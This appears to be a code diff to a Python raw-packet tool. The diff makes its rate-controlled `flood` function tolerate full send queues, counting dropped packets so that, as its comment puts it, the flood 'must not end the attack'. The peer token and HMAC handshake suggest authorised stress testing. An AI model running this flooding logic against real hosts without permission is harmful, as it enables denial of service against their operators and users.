@@ -24,6 +24,7 @@ HMAC-SHA256(key=Key-A||Key-B, msg=R-A||R-B), sent truncated to 64 bits
 of HMAC-SHA256(key=Key-sender||Key-receiver, msg=id||addr||port).
 No scapy: packets are built and parsed here, checksums included.
 """
+import errno
 import hashlib
 import hmac
 import json
@@ -398,21 +399,29 @@ def flood(dst, port, token, seconds, pps):
     def stop(*_):
         raise KeyboardInterrupt
     signal.signal(signal.SIGTERM, stop)
-    sent = 0
+    sent = dropped = 0
     start = time.time()
     end = start + seconds
     try:
         while time.time() < end:
             now = time.time()
             due = int((now - start) * pps)
-            while sent < due:
-                raw.sendto(pool[sent % len(pool)], dest)
-                sent += 1
+            while sent + dropped < due:
+                try:
+                    raw.sendto(pool[sent % len(pool)], dest)
+                    sent += 1
+                except (BlockingIOError, OSError) as e:
+                    # a full device queue on a loaded host: a flood
+                    # drops and goes on, it must not end the attack
+                    if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
+                        raise
+                    dropped += 1
+                    break
             time.sleep(0.002)
     except KeyboardInterrupt:
         pass
     el = time.time() - start
-    return {'sent': sent, 'seconds': round(el, 2), 'pps': round(sent / el)}
+    return {'sent': sent, 'dropped': dropped, 'seconds': round(el, 2), 'pps': round(sent / el)}
 
 
 def main(argv):
